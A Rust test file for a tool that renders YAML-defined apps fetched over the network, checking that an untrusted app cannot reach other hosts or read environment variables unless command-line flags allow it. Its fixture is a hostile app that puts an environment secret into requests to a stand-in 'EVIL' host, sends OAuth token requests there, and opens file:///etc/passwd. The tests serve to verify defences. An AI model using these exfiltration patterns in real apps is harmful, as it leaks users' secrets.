//! What a stranger's app can do, tried with one that tries everything.

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::Output;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use crate::cli::program;

/// A server that answers every path, and remembers what it was asked.
pub struct Site {
    address: SocketAddr,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Site {
    /// `answer` is given the path and returns the whole answer.
    pub fn start(answer: impl Fn(&str) -> String + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let asked = Arc::<Mutex<Vec<String>>>::default();
        let (shared, answer) = (asked.clone(), Arc::new(answer));
        thread::spawn(move || {
            for socket in listener.incoming().flatten() {
                let (shared, answer) = (shared.clone(), answer.clone());
                thread::spawn(move || serve(socket, &shared, &*answer));
            }
        });
        Self { address, asked }
    }

    /// The address of a path.
    pub fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.address)
    }

    /// The first lines of all requests.
    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }

    /// The first parts of the paths that were asked for.
    fn paths(&self) -> BTreeSet<String> {
        let path = |line: String| line.split(['?', ' ']).nth(1).unwrap_or_default().to_owned();
        self.asked().into_iter().map(path).collect()
    }
}

fn serve(mut socket: TcpStream, asked: &Mutex<Vec<String>>, answer: &dyn Fn(&str) -> String) {
    socket.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let (mut head, mut buffer) = (Vec::new(), [0; 2048]);
    while !head.windows(4).any(|four| four == b"\r\n\r\n") {
        match socket.read(&mut buffer) {
            Ok(read) if read > 0 => head.extend_from_slice(&buffer[..read]),
            _ => return,
        }
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let line = head.lines().next().unwrap_or_default().to_owned();
    let path = line.split(' ').nth(1).unwrap_or_default().to_owned();
    asked.lock().unwrap().push(line);
    // A client that has gone is no matter.
    let _ = socket.write_all(answer(&path).as_bytes());
}

/// A whole answer.
pub fn answer(status: &str, headers: &str, body: &str) -> String {
    format!("HTTP/1.1 {status}\r\nConnection: close\r\nContent-Length: {}\r\n{headers}\r\n{body}", body.len())
}

/// Everything that reaches a server, a file, the environment or the desktop, without a press.
const STRANGER: &str = r#"
View:
  onLoad:
    executeActionGroup:
      actions:
        - invokeAPI: {name: request}
        - invokeAPI: {name: stream}
        - invokeAPI: {name: redirected}
        - invokeAPI: {name: proxied}
        - invokeAPI: {name: login}
        - invokeAPI: {name: home}
        - openUrl: {url: "EVIL/opened"}
        - openUrl: {url: "file:///etc/passwd"}
  body:
    Column:
      children:
        - Text: {text: "secret: ${env.STRANGER_SECRET} home: ${home.body.ok}"}
        - Image: {source: "EVIL/picture.png", width: 10, height: 10}
        - Image: {source: icon.png, width: 10, height: 10}
API:
  request: {url: "EVIL/request?k=${env.STRANGER_SECRET}"}
  stream: {type: sse, url: "EVIL/stream?k=${env.STRANGER_SECRET}"}
  redirected: {url: "HOME/away"}
  proxied: {type: sse, url: "HOME/proxied", sseOptions: {proxy: "EVIL"}}
  login: {url: "HOME/data", authorization: {oauth2: {tokenUrl: "EVIL/token", clientId: me, clientSecret: s}}}
  home: {url: "HOME/data"}
"#;

/// Opens the stranger's app by its address, without a window. The two servers are its own and the one that it should not reach.
fn open_stranger(args: &[&str]) -> (Output, Site, Site) {
    let evil = Site::start(|_| answer("200 OK", "Content-Type: text/plain\r\n", "x"));
    let away = evil.url("/redirected");
    let addresses = Arc::new(Mutex::new((String::new(), evil.url(""))));
    let known = addresses.clone();
    let home = Site::start(move |path| match path {
        "/away" => answer("302 Found", &format!("Location: {away}\r\n"), ""),
        "/data" => answer("200 OK", "Content-Type: application/json\r\n", r#"{"ok": "yes"}"#),
        _ => {
            let (home, evil) = known.lock().unwrap().clone();
            answer("200 OK", "Content-Type: text/yaml\r\n", &STRANGER.replace("HOME", &home).replace("EVIL", &evil))
        }
    });
    addresses.lock().unwrap().0 = home.url("");
    let url = home.url("/app.yaml");
    let mut all = vec!["screenshot", &url, "--tree", "-", "--wait-text", "home: yes", "--wait", "700"];
    all.extend(args);
    let output = program(&all).env("STRANGER_SECRET", "hunter2-of-the-process").output().unwrap();
    (output, home, evil)
}

fn texts(output: &Output) -> (String, String) {
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    (text(&output.stdout), text(&output.stderr))
}

#[test]
fn an_app_from_the_network_reaches_its_own_server_only_and_reads_no_environment() {
    let (output, home, evil) = open_stranger(&[]);
    let (stdout, stderr) = texts(&output);
    assert_eq!(evil.asked(), [""; 0], "{stderr}");
    assert!(home.paths().contains("/data"), "{stderr}");
    assert!(stdout.contains("home: yes") && !stdout.contains("hunter2"), "{stdout}");
    assert!(stderr.contains("--allow-host 127.0.0.1"), "{stderr}");
    assert!(stderr.contains("E0512") && stderr.contains("`file:`"), "{stderr}");
    assert!(
        stderr.contains("E0510") && stderr.contains("icon.png"),
        "the folder of the program is none of the app's: {stderr}"
    );
    assert!(!stderr.contains("hunter2"), "{stderr}");
}

#[test]
fn what_the_command_line_allows_is_reached_and_what_it_gives_is_read() {
    let (output, home, evil) = open_stranger(&["--allow-host", "127.0.0.1", "--env", "STRANGER_SECRET=given"]);
    let (stdout, stderr) = texts(&output);
    let reached: BTreeSet<String> =
        ["/picture.png", "/redirected", "/request", "/stream", "/token"].into_iter().map(str::to_owned).collect();
    let mut asked = evil.paths();
    assert!(asked.remove(&home.url("/proxied")), "{asked:?} {stderr}");
    assert_eq!(asked, reached, "{stderr}");
    assert!(evil.asked().iter().any(|line| line.contains("/request?k=given")), "{:?}", evil.asked());
    assert!(stdout.contains("secret: given"), "{stdout}");
    assert!(!stderr.contains("is not allowed"), "{stderr}");
}

#[test]
fn an_app_is_not_taken_from_another_server_than_was_named() {
    let evil = Site::start(|_| answer("200 OK", "", "View: {body: {Text: {text: evil}}}"));
    let away = evil.url("/app.yaml");
    let home = Site::start(move |_| answer("302 Found", &format!("Location: {away}\r\n"), ""));
    let output = program(&["screenshot", &home.url("/app.yaml"), "--tree", "-"]).output().unwrap();
    let (stdout, stderr) = texts(&output);
    assert_eq!((output.status.code(), stdout.as_str()), (Some(1), ""), "{stderr}");
    assert!(stderr.contains("its server sends to") && stderr.contains("open that address"), "{stderr}");
    assert_eq!(evil.asked(), [""; 0]);
}
